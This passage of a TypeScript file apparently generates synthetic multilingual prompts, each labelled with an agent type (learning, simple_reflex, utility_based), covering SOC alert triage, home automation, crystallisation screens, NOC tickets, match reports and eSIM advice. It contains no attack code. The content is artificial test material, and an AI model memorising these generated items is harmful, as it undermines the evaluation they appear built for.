    const units = rng.int(40, 70);
    const precincts = Array.from({ length: rng.int(6, 9) }, (_, k) => ({
      precinct: `P-${pad(k + 1, 3)}`,
      registered: rng.int(1800, 9000),
      turnout_last: +(0.35 + rng.next() * 0.4).toFixed(2),
      peak_share_7to9am: +(0.2 + rng.next() * 0.2).toFixed(2),
      avg_checkin_min: +(1.2 + rng.next() * 1.8).toFixed(1),
      min_units_by_law: 2,
    }));
    const q = t(lang, {
      en: `County has ${units} electronic poll book units for election day. Every precinct must get at least its legal minimum. Spread the rest so no precinct's expected morning-peak wait goes much above the others; long lines in any one place are worse than slightly longer lines everywhere. Show units per precinct and the expected peak wait.`,
      es: `El condado tiene ${units} equipos de registro electrónico para el día de la elección. Cada recinto debe recibir al menos su mínimo legal. Reparte el resto de forma que la espera esperada en el pico de la mañana de ningún recinto quede muy por encima de los demás; filas largas en un solo lugar son peores que filas algo más largas en todas partes. Muestra equipos por recinto y la espera esperada en el pico.`,
      pt: `O condado tem ${units} terminais de registro eletrônico para o dia da eleição. Cada seção deve receber pelo menos o mínimo legal. Distribua o restante para que a espera esperada no pico da manhã de nenhuma seção fique muito acima das outras; filas longas num só lugar são piores do que filas um pouco maiores em todos. Mostre terminais por seção e a espera esperada no pico.`,
    });
    const csv = ['precinct,registered,turnout_last,peak_share_7to9am,avg_checkin_min,min_units_by_law', ...precincts.map((p) => Object.values(p).join(','))].join('\n');
    return {
      lang,
      messages: [...(i !== 2 ? [sys('Elections office analytics assistant. Be transparent about the arithmetic.')] : []), user(`${q}\n\n${csv}`)],
    };
  },
};

// ---------------------------------------------------------------- learning

const wcLrSoc: Family = {
  id: 'wc-lr-soc-dispositions',
  label: 'learning',
  secondary: 'simple_reflex',
  difficulty: 'medium',
  rationale: 'The decision on a new alert is meant to follow from how analysts closed similar past alerts, retrieved into the context, rather than from fixed rules.',
  variants: 5,
  make(rng, i) {
    const lang = langAt(['en', 'de', 'en', 'ja', 'en'], i);
    const rule = rng.pick(['Impossible travel', 'New MFA device registered', 'Mass file download from SharePoint', 'PowerShell encoded command']);
    const tools = [
      tool('search_closed_alerts', 'Semantic search over closed alerts with analyst dispositions and notes.', { rule: str, entity: str, k: int }),
      tool('get_alert', 'Full alert payload.', { alert_id: str }),
    ];
    const uid = rng.pick(['j.meyer', 'a.tanaka', 'r.silva', 'm.osei']);
    const past = Array.from({ length: rng.int(3, 5) }, (_, k) => ({
      alert: `SOC-${rng.int(20000, 29999)}`, rule, entity: k < 2 ? uid : rng.pick(['svc_sync', 'l.brown', 'k.ito']),
      disposition: k === 1 ? 'true_positive' : rng.pick(['benign_expected', 'false_positive', 'benign_expected']),
      analyst_note: k === 1
        ? 'Token theft via AiTM phishing page; login from hosting ASN, session cookie replayed. Reset + revoke.'
        : rng.pick(['Corporate VPN egress in Frankfurt, user in Munich. Normal.', 'User travelling, confirmed via Slack.', 'Backup agent, scheduled job.', 'Mobile carrier NAT jumps, ignore for this user.']),
      closed_days_ago: rng.int(3, 120),
    }));
    const m: ChatMessage[] = [
      sys(t(lang, {
        en: 'SOC tier-1 assistant. For each new alert, look at how similar closed alerts were resolved and by what evidence, then recommend close_benign, escalate_t2, or contain_now, quoting which past case(s) you relied on. Our analysts\' past calls outrank generic vendor guidance.',
        de: 'SOC-Tier-1-Assistent. Sieh dir bei jedem neuen Alarm an, wie ähnliche geschlossene Alarme aufgelöst wurden und anhand welcher Belege, und empfiehl dann close_benign, escalate_t2 oder contain_now mit Verweis auf die herangezogenen Fälle. Frühere Entscheidungen unserer Analysten haben Vorrang vor allgemeinen Herstellerempfehlungen.',
        ja: 'SOC ティア1アシスタントです。新しいアラートごとに、類似のクローズ済みアラートがどの証拠でどう判断されたかを確認し、close_benign、escalate_t2、contain_now のいずれかを推奨してください。根拠にした過去の事例を引用すること。ベンダーの一般的な指針より、当社アナリストの過去の判断を優先します。',
      })),
      user((() => {
        const src = `${ip(rng)} (AS${rng.pick([14061, 16509, 24940, 3320, 7922])} ${rng.pick(['DigitalOcean', 'Amazon', 'Hetzner', 'Deutsche Telekom', 'Comcast'])})`;
        const gap = rng.int(5, 50);
        return t(lang, {
          en: `New: ${rule} for ${uid} — src ${src} ${gap} min after a login from the office. Close, escalate or contain?`,
          de: `Neu: ${rule} für ${uid} — Quelle ${src}, ${gap} Minuten nach einer Anmeldung aus dem Büro. Schließen, eskalieren oder eindämmen?`,
          ja: `新規: ${uid} の ${rule} — 送信元 ${src}、オフィスからのログインの ${gap} 分後。クローズ、エスカレーション、封じ込めのどれ？`,
        });
      })()),
    ];
    exchange(rng, m, 'search_closed_alerts', { rule, entity: uid, k: 5 }, J(past));
    if (i % 2 === 0) exchange(rng, m, 'get_alert', { alert_id: `SOC-${rng.int(30000, 39999)}` }, J({ user_agent: rng.pick(['python-httpx/0.27', 'Mozilla/5.0 (Macintosh)']), mfa: rng.pick(['satisfied_by_token_claim', 'push_approved']), new_inbox_rules: rng.int(0, 2) }));
    return { lang, messages: m, tools };
  },
};

const wcLrDraft: Family = {
  id: 'wc-lr-esports-draft',
  label: 'learning',
  difficulty: 'hard',
  rationale: 'Past scrims against the same opponent, with outcomes and coach notes, are supplied so the next draft choice generalises from what worked and what failed.',
  variants: 4,
  make(rng, i) {
    const lang = langAt(['en', 'zh', 'en', 'pt'], i);
    const heroes = ['Kaela', 'Orrin', 'Vesh', 'Thalia', 'Mordun', 'Isk', 'Pyra', 'Gallow', 'Nix', 'Sunder', 'Brisa', 'Oku'];
    const opp = rng.pick(['Team Halcyon', 'NorthGate', 'Kraken Five', 'Estrela GG']);
    const scrims = Array.from({ length: rng.int(4, 6) }, (_, k) => {
      const ours = rng.sample(heroes, 5);
      const theirs = rng.sample(heroes.filter((h) => !ours.includes(h)), 5);
      const won = rng.chance(0.45);
      return `Scrim ${k + 1} vs ${opp}: us [${ours.join(', ')}] / them [${theirs.join(', ')}] -> ${won ? 'WIN' : 'LOSS'} ${rng.int(18, 41)} min. Coach: ${won ? rng.pick(['early Pyra pressure broke their jungle', 'we denied Vesh and they had no engage', 'split push with Nix worked']) : rng.pick(['they punish slow comps, lost all 3 early skirmishes', 'Mordun in their hands is a problem, ban or pick it', 'our backline had no peel vs Isk dives'])}`;
    });
    const bans = rng.sample(heroes, 2);
    const ask = t(lang, {
      en: `Official match vs ${opp} now. Bans so far: ${bans.join(', ')}. We have first pick. What do we take, and what's the second-phase ban?`,
      zh: `现在是对阵 ${opp} 的正式比赛。目前禁用：${bans.join('、')}。我们先选。第一手选什么？第二轮禁谁？`,
      pt: `Partida oficial contra ${opp} agora. Bans até aqui: ${bans.join(', ')}. Temos a primeira escolha. O que pegamos e qual é o ban da segunda fase?`,
    });
    return {
      lang,
      messages: [
        sys('Draft analyst for our pro team. Base recommendations on our scrim history against this specific opponent; generic tier lists are secondary. Be decisive.'),
        user(`${scrims.join('\n')}\n\n${ask}`),
      ],
      response_format: i % 2 === 1 ? jsonSchema('draft_call', { first_pick: str, phase2_ban: str, because: str }) : undefined,
    };
  },
};

const wcLrHome: Family = {
  id: 'wc-lr-home-corrections',
  label: 'learning',
  difficulty: 'medium',
  rationale: 'Retrieved notes of how the household corrected earlier automatic actions are used to decide how to handle a new, similar situation.',
  variants: 5,
  make(rng, i) {
    const lang = langAt(['ja', 'en', 'de', 'en', 'en'], i);
    const notes = rng.sample([
      { when: '2026-01-14 19:05', did: 'turned porch light on at sunset', user_reaction: 'switched off after 2 min: "only when someone is arriving"' },
      { when: '2026-01-20 22:40', did: 'announced "washing machine finished" on kitchen speaker', user_reaction: 'said "not after 22:00, phone notification instead"' },
      { when: '2026-02-02 07:10', did: 'opened bedroom blinds at 07:00 on Sunday', user_reaction: 'closed them again; weekend mornings no blinds before 09:00' },
      { when: '2026-02-09 18:30', did: 'porch light on when car arrived', user_reaction: 'no change (kept)' },
      { when: '2026-02-11 23:15', did: 'sent phone notification for dryer done', user_reaction: 'no change (kept)' },
      { when: '2026-02-16 08:00', did: 'opened living room blinds on Saturday', user_reaction: 'no change (kept)' },
    ], rng.int(4, 6));
    const event = rng.pick([
      { en: `Dishwasher finished at 22:${pad(rng.int(10, 55))}.`, ja: `食洗機が22時${rng.int(10, 55)}分に終了しました。`, de: `Die Spülmaschine ist um 22:${pad(rng.int(10, 55))} fertig.` },
      { en: 'It is Sunday 07:00, blinds schedule is due.', ja: '日曜日の7時です。ブラインドのスケジュールの時刻です。', de: 'Es ist Sonntag 07:00, der Jalousien-Zeitplan steht an.' },
      { en: 'Sunset now; garage door just opened and a known phone joined Wi-Fi.', ja: '日没です。ガレージのドアが開き、登録済みのスマホが Wi-Fi に接続しました。', de: 'Sonnenuntergang; das Garagentor ging gerade auf und ein bekanntes Handy hat sich ins WLAN eingebucht.' },
    ]);
    const evText = event[lang as 'en' | 'ja' | 'de'] ?? event.en;
    const tools = [
      tool('notify_phone', 'Push notification to household phones.', { text: str }),
      tool('speak', 'Announce on a speaker.', { speaker: str, text: str }),
      tool('set_cover', 'Open/close blinds.', { cover: str, position: int }),
      tool('set_light', 'Switch a light.', { light: str, on: bool }),
      tool('do_nothing', 'Explicitly skip the automation this time.', { reason: str }),
    ];
    const m: ChatMessage[] = [
      sys(t(lang, {
        en: 'You run the household automations. Below are past automatic actions and how the household reacted. Treat reactions as the household\'s preferences and extend them to similar cases even if nobody spelled out a rule. Act with exactly one tool call.',
        ja: 'あなたは家庭の自動化を担当しています。以下は過去の自動アクションと、それに対する家族の反応です。反応を家族の好みとして扱い、明示的なルールがなくても似たケースに当てはめてください。ツール呼び出しは1回だけ行ってください。',
        de: 'Du steuerst die Hausautomationen. Unten stehen frühere automatische Aktionen und wie der Haushalt darauf reagiert hat. Behandle die Reaktionen als Vorlieben des Haushalts und übertrage sie auf ähnliche Fälle, auch wenn niemand eine Regel ausgesprochen hat. Handle mit genau einem Tool-Aufruf.',
      })),
      user(`${J(notes)}\n\n${evText}`),
    ];
    return { lang, messages: m, tools, tool_choice: 'required' };
  },
};

const wcLrCrystal: Family = {
  id: 'wc-lr-crystal-trials',
  label: 'learning',
  difficulty: 'hard',
  rationale: 'Earlier crystallisation drops and their scored outcomes are the evidence for choosing the next condition set to try on the same protein.',
  variants: 4,
  make(rng, i) {
    const lang = langAt(['en', 'fr', 'en', 'zh'], i);
    const protein = rng.pick(['KRAS-G12D (1-169)', 'MBP-fused PilA', 'Nsp9', 'TEV-cleaved LysM domain']);
    const trials = Array.from({ length: rng.int(6, 10) }, () => {
      const peg = rng.pick(['PEG 3350', 'PEG 4000', 'PEG 8000', 'PEG MME 550']);
      const pct = rng.pick([12, 16, 20, 24, 28]);
      const ph = +(5.5 + rng.int(0, 6) * 0.5).toFixed(1);
      const salt = rng.pick(['0.2 M NaCl', '0.2 M MgCl2', '0.1 M (NH4)2SO4', 'none']);
      const conc = rng.pick([5, 8, 10, 15]);
      const score = rng.pick(['clear', 'clear', 'light precipitate', 'heavy precipitate', 'phase separation', 'microcrystals', 'needles']);
      return `${pct}% ${peg}, pH ${ph}, ${salt}, protein ${conc} mg/mL, 20 C -> ${score}`;
    });
    const q = t(lang, {
      en: `Screen results so far for ${protein} (sitting drop, 1:1, day 7):\n${trials.join('\n')}\n\nWe have room for one more 24-well fine-screen tray. Which conditions go on it? Tell me what pattern in the results you're following.`,
      fr: `Résultats de criblage jusqu'ici pour ${protein} (goutte assise, 1:1, jour 7) :\n${trials.join('\n')}\n\nOn a la place pour un seul plateau d'affinement de 24 puits. Quelles conditions met-on dessus ? Dis-moi quelle tendance des résultats tu suis.`,
      zh: `${protein} 目前的筛选结果（坐滴，1:1，第7天）：\n${trials.join('\n')}\n\n我们只能再做一块 24 孔精细筛选板。放哪些条件？请说明你依据的是结果中的什么规律。`,
    });
    return {
      lang,
      messages: [...(i !== 2 ? [sys('Structural biology bench assistant. Concise, practical, no literature lookups.')] : []), user(q)],
    };
  },
};

const wcLrGuest: Family = {
  id: 'wc-lr-guest-history',
  label: 'learning',
  difficulty: 'medium',
  rationale: 'The concierge draws on a returning guest\'s past stays and comments to decide how to prepare the room for a new visit that differs from the earlier ones.',
  variants: 4,
  make(rng, i) {
    const lang = langAt(['fr', 'es', 'en', 'en'], i);
    const guest = rng.pick(['M. Laurent', 'Sra. Beltrán', 'Mr. Okonkwo', 'Ms. Haddad']);
    const stays = [
      { dates: '2024-11', purpose: 'business', room: 'city view 8th floor', comments: 'asked to move: elevator noise', rating: 3 },
      { dates: '2025-03', purpose: 'business', room: 'courtyard 3rd floor', comments: 'loved the quiet, used the desk a lot, asked for extra pillows (firm)', rating: 5 },
      { dates: '2025-07', purpose: rng.pick(['family', 'leisure']), room: 'connecting rooms 5th floor', comments: rng.pick(['kids wanted the pool early, breakfast at 6:30 requested', 'minibar untouched, asked to remove alcohol']), rating: 4 },
      { dates: '2025-12', purpose: 'business', room: 'courtyard 4th floor', comments: rng.pick(['late checkout 14:00 granted, appreciated', 'complained the room was too warm']), rating: rng.int(4, 5) },
    ];
    const upcoming = {
      arrival: `2026-0${rng.int(4, 9)}-${pad(rng.int(1, 28))}`,
      nights: rng.int(2, 5),
      purpose: rng.pick(['leisure with partner', 'business, presenting at the congress', 'family with one child']),
      available_rooms: ['city view 9th floor (new soundproofing)', 'courtyard 2nd floor', 'garden suite ground floor', 'courtyard 6th floor near elevator'],
    };
    const ask = t(lang, {
      en: `Returning guest ${guest}. Which room do we hold, and what do we set up before arrival? Short list for housekeeping.`,
      fr: `Client habitué : ${guest}. Quelle chambre bloque-t-on, et que prépare-t-on avant l'arrivée ? Liste courte pour le service d'étage.`,
      es: `Cliente habitual: ${guest}. ¿Qué habitación le reservamos y qué preparamos antes de su llegada? Lista corta para pisos.`,
    });
    return {
      lang,
      messages: [
        sys('Guest relations assistant. Use the stay history to anticipate what this guest will want this time; where this stay differs from past ones, say how you adapted.'),
        user(`${ask}\n\nHistory:\n${JP(stays)}\n\nUpcoming:\n${JP(upcoming)}`),
      ],
    };
  },
};

const wcLrNoc: Family = {
  id: 'wc-lr-noc-fixes',
  label: 'learning',
  difficulty: 'medium',
  rationale: 'Resolved tickets with what was tried and whether it worked are retrieved so the engineer picks the fix most likely to work on a new similar fault.',
  variants: 5,
  make(rng, i) {
    const lang = langAt(['pt', 'en', 'zh', 'en', 'en'], i);
    const olt = `OLT-${rng.pick(['CPS', 'BHZ', 'SSA', 'SZX'])}-${pad(rng.int(1, 20))}`;
    const tickets = [
      { id: `INC-${rng.int(7000, 7999)}`, symptom: 'ONUs on one PON port flapping every ~10 min, Rx -27 dBm', tried: ['reboot OLT card (back in 20 min)', 'replace SFP (fixed)'] },
      { id: `INC-${rng.int(8000, 8999)}`, symptom: 'ONUs on one PON port flapping after rain, Rx -29 dBm', tried: ['replace SFP (no change)', 'clean splitter connector at CTO box (fixed)'] },
      { id: `INC-${rng.int(9000, 9999)}`, symptom: 'single ONU flapping, Rx -18 dBm', tried: ['rogue ONU detection -> isolated bad ONU (fixed)'] },
      { id: `INC-${rng.int(10000, 10999)}`, symptom: 'whole PON port flapping, Rx normal, many ONUs reporting LOSi at once', tried: ['replace SFP (no change)', 'rogue ONU detection -> found ONU emitting continuously (fixed)'] },
    ];
    const shown = rng.sample(tickets, rng.int(3, 4));
    const now = `${olt} slot ${rng.int(1, 16)} port ${rng.int(1, 16)}: ${rng.int(20, 60)} ONUs flapping every ${rng.int(5, 15)} min since ${rng.pick(['storm last night', '03:00', 'a field crew visit yesterday'])}, Rx ${rng.pick(['-28', '-19', '-26'])} dBm, ${rng.pick(['LOSi bursts on many ONUs simultaneously', 'errors concentrated on 8 ONUs after one splitter'])}.`;
    const q = t(lang, {
      en: 'Here are past tickets that look similar. Which fix do I try first on the new one, and what do I do if that doesn\'t work?',
      pt: 'Aqui estão tickets antigos parecidos. Qual correção eu tento primeiro neste novo caso, e o que faço se não funcionar?',
      zh: '下面是以前类似的工单。新故障我先尝试哪种修复？如果不行下一步做什么？',
    });
    return {
      lang,
      messages: [
        ...(i % 2 === 0 ? [sys('NOC assistant for a regional FTTH operator. Field dispatches cost ~R$600 each; remote actions are free. Reason from the resolved tickets, not from the vendor manual.')] : []),
        user(`${q}\n\nPast:\n${JP(shown)}\n\nNew:\n${now}`),
      ],
      max_tokens: rng.pick([250, 400]),
    };
  },
};

// ---------------------------------------------------------------- non-agentic

const wcNaCouncil: Family = {
  id: 'wc-na-council-bulletin',
  label: 'simple_reflex',
  agentic: false,
  difficulty: 'easy',
  rationale: 'Plain summarisation of a council meeting excerpt into a residents\' bulletin; no agent behaviour, closest to a one-shot reflex reply.',
  variants: 4,
  make(rng, i) {
    const lang = langAt(['de', 'en', 'fr', 'en'], i);
    const items = rng.sample([
      'Item 4: Motion to extend the library Sunday opening pilot for 12 months. Cllr Haas: usage up 18%. Cllr Moreno: staffing cost 41k. Carried 7-2.',
      'Item 5: Resurfacing of Brook Lane deferred to 2027 due to utility works. Residents\' petition (212 signatures) noted.',
      'Item 6: New parking permit fees: residents 60/yr (was 45), visitors 2/day. Effective 1 July. Carried 5-4 after amendment exempting blue badge holders.',
      'Item 7: Youth council report on skate park lighting; officers to cost options by September.',
      'Item 8: Public question from Mr Dunn about bin collection on bank holidays. Answer: collections move to the following day.',
    ], rng.int(3, 4));
    const minutes = `Minutes — ${rng.pick(['Westbrook', 'Ashford Vale', 'Kirkmoor'])} Town Council, ${rng.int(1, 28)} ${rng.pick(['March', 'April', 'May'])} 2026\n\n${items.join('\n')}`;
    const ask = t(lang, {
      en: 'Turn these minutes into a short, friendly update for the residents\' newsletter. No jargon, under 150 words.',
      de: 'Mach aus diesem Protokoll eine kurze, freundliche Meldung für den Bürger-Newsletter, auf Deutsch. Kein Amtsdeutsch, unter 150 Wörter.',
      fr: 'Transforme ce compte rendu en un court texte sympathique pour la lettre d\'information des habitants, en français. Pas de jargon, moins de 150 mots.',
    });
    return { lang, messages: [user(`${ask}\n\n${minutes}`)], max_tokens: i === 0 ? 300 : undefined };
  },
};

const wcNaMatch: Family = {
  id: 'wc-na-match-report',
  label: 'simple_reflex',
  agentic: false,
  difficulty: 'easy',
  rationale: 'Writing a match report from a box score is plain text generation with nothing to track, pursue or choose; closest to a one-shot reflex reply.',
  variants: 4,
  make(rng, i) {
    const lang = langAt(['es', 'en', 'pt', 'en'], i);
    const home = rng.pick(['CD Almenara', 'Riverside Rovers', 'EC Serra Azul', 'Harbour City FC']);
    const away = rng.pick(['Atlético Brisas', 'Northfield Town', 'União Vale Verde', 'Kingsbridge United']);
    const hs = rng.int(0, 4);
    const as = rng.int(0, 3);
    const box = `${home} ${hs}-${as} ${away}\nScorers: ${Array.from({ length: hs }, () => `${rng.pick(['Ortega', 'Mills', 'Silva', 'Doyle'])} ${rng.int(3, 90)}'`).join(', ') || '-'} | ${Array.from({ length: as }, () => `${rng.pick(['Reyes', 'Clarke', 'Costa'])} ${rng.int(3, 90)}'`).join(', ') || '-'}\nPossession ${rng.int(38, 62)}%  Shots ${rng.int(6, 18)}-${rng.int(4, 15)}  Cards: ${rng.int(0, 4)}Y ${rng.chance(0.2) ? '1R' : '0R'}\nAttendance ${rng.int(800, 6000)}`;
    const ask = t(lang, {
      en: 'Write a 120-word match report for our club website from this. Upbeat but honest.',
      es: 'Escribe una crónica del partido de unas 120 palabras para la web del club a partir de esto. Positiva pero honesta.',
      pt: 'Escreva uma crônica da partida de cerca de 120 palavras para o site do clube com base nisto. Animada, mas honesta.',
    });
    const messages: ChatMessage[] = i % 2 === 1 ? [sys('You write for amateur football club websites.'), user(`${ask}\n\n${box}`)] : [user(`${ask}\n\n${box}`)];
    return { lang, messages, temperature: 0.8 };
  },
};

const wcNaEsim: Family = {
  id: 'wc-na-esim-chat',
  label: 'utility_based',
  agentic: false,
  difficulty: 'medium',
  rationale: 'A consumer chat weighing eSIM against a local SIM card for a trip is advice, not agency, but its nearest type is a trade-off choice.',
  variants: 5,
  make(rng, i) {
    const lang = langAt(['ja', 'en', 'zh', 'en', 'en'], i);
    const days = rng.int(5, 21);
    const where = rng.pick(['Thailand', 'Portugal', 'Mexico', 'Korea']);
    const m: ChatMessage[] = [];
    if (i % 2 === 0) m.push(sys('You are a helpful assistant.'));
    m.push(user(t(lang, {
      en: `I'm going to ${where} for ${days} days. Should I get an eSIM before I go or buy a local SIM at the airport? My phone is a ${rng.pick(['Pixel 7', 'iPhone 13', 'Galaxy S22'])}.`,
      ja: `${days}日間${where === 'Korea' ? '韓国' : where}に行きます。出発前に eSIM を買うのと、空港で現地の SIM を買うのと、どっちがいいですか？スマホは ${rng.pick(['Pixel 7', 'iPhone 13', 'Galaxy S22'])} です。`,
      zh: `我要去${where === 'Korea' ? '韩国' : where}玩${days}天。是出发前买 eSIM 好，还是到机场买当地 SIM 卡好？我的手机是 ${rng.pick(['Pixel 7', 'iPhone 13', 'Galaxy S22'])}。`,
    })));
    if (i >= 2) {
      m.push(say(t(lang, {
        en: 'Both work. An eSIM is convenient (installed before you fly, keep your home number on the physical SIM) but is usually data-only and a bit pricier per GB. A local SIM is often cheaper and includes a local number, but you queue at the airport and swap cards. How much data do you expect to use, and do you need a local number for calls or ride apps?',
        zh: '两种都可以。eSIM 很方便（出发前装好，实体卡继续用国内号码），但通常只有流量，每 GB 也稍贵。当地 SIM 往往更便宜还带本地号码，但要在机场排队、换卡。你大概要用多少流量？需要本地号码打电话或用打车软件吗？',
      })));
      m.push(user(t(lang, {
        en: `maybe ${rng.int(3, 20)} GB, mostly maps and instagram. I'd like to keep getting bank SMS codes.`,
        zh: `大概 ${rng.int(3, 20)} GB，主要用地图和小红书。我想继续收银行的短信验证码。`,
      })));
    }
    return { lang, messages: m };
  },
};

export const wideC: Family[] = [
  wcSrWaf, wcSrDoorbell, wcSrLineCall, wcSr311, wcSrOnt, wcSrQpcr,
  wcMbCdn, wcMbShoe, wcMbPresence, wcMbHandover, wcMbCulture, wcMbWildfire,
  wcGbCtf, wcGbVisa, wcGbCraft, wcGbPermits, wcGbScene, wcGbPort,
  wcUbPatch, wcUbFantasy, wcUbUpgrades, wcUbWifi, wcUbTelescope, wcUbPolling,
  wcLrSoc, wcLrDraft, wcLrHome, wcLrCrystal, wcLrGuest, wcLrNoc,
  wcNaCouncil, wcNaMatch, wcNaEsim,
];
